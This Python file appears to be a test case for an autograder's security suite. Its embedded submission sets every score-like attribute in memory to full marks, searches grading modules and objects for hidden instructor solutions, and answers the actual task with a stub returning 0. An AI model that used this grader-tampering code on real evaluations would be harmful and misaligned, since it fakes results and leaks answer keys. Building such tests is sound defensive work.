"""Whatever looks like a verdict is found among all objects and set to full marks."""

from __future__ import annotations

from security.attack import Asset, Attack, AttackClass

ANSWER = """\
import gc, sys
WORDS = ["BEGIN " + "HIDDEN", "BEGIN " + "SOLUTION"]
def raise_marks():
    for thing in gc.get_objects():
        for name in ("credit", "points", "score", "passed", "status"):
            try:
                if name in vars(thing): setattr(thing, name, 1.0)
            except Exception: pass
for module in sorted(sys.modules):
    if module.split(".")[0] in ("simulator", "grading", "authoring", "school", "nbgrader"):
        breach(module)
for thing in gc.get_objects():
    if isinstance(thing, dict):
        for text in list(thing.values()):
            if isinstance(text, str) and text is not None and any(w in text for w in WORDS):
                if "WORDS" not in text: breach(text[:80])
def answer(x):
    return 0
"""

ATTACK = Attack(
    kind=AttackClass.INSPECTION,
    assets=(
        Asset.SCORE,
        Asset.WARM,
        Asset.SOURCE,
        Asset.TRUTH,
    ),
    expected=frozenset({"ok/failed"}),
    canary="points gained, text of the instructor is found",
    cells=(ANSWER,),
    stock=True,
)
